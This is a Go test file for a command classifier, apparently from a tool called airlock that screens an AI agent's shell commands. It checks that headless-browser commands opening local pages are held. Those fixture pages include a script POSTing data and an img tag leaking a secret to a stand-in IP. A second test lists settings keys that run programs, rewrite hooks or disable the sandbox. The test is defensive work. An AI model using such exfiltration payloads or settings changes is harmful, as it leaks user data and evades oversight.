package classify

import (
	"strings"
	"testing"
	"testing/fstest"

	"github.com/airlock-dev/airlock/internal/shell"
)

// TestBrowserPage checks that a browser opening a local page with a
// script, a reference to another host, or one it cannot read first is
// held, and that a remote page, a plain document and a missing file are
// not.
func TestBrowserPage(t *testing.T) {
	fsys := fstest.MapFS{
		"x.html":    {Data: []byte(`<script>fetch("https://192.0.2.1/u",{method:"POST",body:"k"})</script>`)},
		"img.html":  {Data: []byte(`<img src="https://192.0.2.1/?k=secret">`)},
		"on.svg":    {Data: []byte(`<svg onload ="x()"></svg>`)},
		"doc.html":  {Data: []byte("<h1>Notes</h1><p>only text</p>\n")},
		"only.html": {Data: []byte("<p>Donation link: none</p>\n")},
	}
	for _, tc := range []struct {
		cmd  string
		held bool
	}{
		{"chromium --headless --dump-dom x.html", true},
		{"google-chrome --headless=new --screenshot x.html", true},
		{"firefox --headless --screenshot file:x.html", true},
		{"chromium --headless --dump-dom file://$PWD/doc.html", true},
		{"wkhtmltopdf img.html out.pdf", true},
		{"xdg-open on.svg", true},
		{"python3 -m webbrowser x.html", true},
		{"npx playwright screenshot x.html shot.png", true},
		{"echo '<p>hi</p>' > new.html && chromium --headless --dump-dom new.html", true},
		// negative
		{"chromium --headless --dump-dom https://example.com", false},
		{"chromium --headless --screenshot=shot.png https://example.com", false},
		{"xdg-open doc.html", false},
		{"firefox only.html", false},
		{"chromium --headless --dump-dom missing.html", false},
		{"xdg-open README.md", false},
	} {
		c := Classifier{Limits: shell.DefaultLimits, FS: fsys}
		r := c.Command(tc.cmd)
		held := false
		for _, re := range r.Reasons {
			held = held || re.Rule == "browser.page"
		}
		if held != tc.held {
			t.Errorf("%s: browser.page %v, want %v (%s %v)", tc.cmd, held, tc.held, r.Label(), r.Reasons)
		}
	}
}

// TestClaudeSettingsRun checks the inline settings keys that run a
// program or change the hooks' world, and some that do neither.
func TestClaudeSettingsRun(t *testing.T) {
	for _, tc := range []struct {
		json string
		off  bool
	}{
		{`{"apiKeyHelper":"./x.sh"}`, true},
		{`{"statusLine":{"type":"command","command":"./x.sh"}}`, true},
		{`{"hooks":{"PreToolUse":[]}}`, true},
		{`{"env":{"PATH":"/tmp"}}`, true},
		{`{"sandbox":{"enabled":false}}`, true},
		{`{"enableAllProjectMcpServers":true}`, true},
		{`{"later":{"nested":[{"command":"./x.sh"}]}}`, true},
		{`{"someHelper":"./x.sh"}`, true},
		{`{"model":"sonnet"}`, false},
		{`{"hooks":{}}`, false},
		{`{"disableAllHooks":false}`, false},
		{`{"permissions":{"allow":["Read"]}}`, false},
	} {
		why, off := claudeSettingsOff(tc.json)
		if off != tc.off {
			t.Errorf("%s: off %v (%s), want %v", tc.json, off, why, tc.off)
		}
		if off && strings.TrimSpace(why) == "" {
			t.Errorf("%s: no reason", tc.json)
		}
	}
}
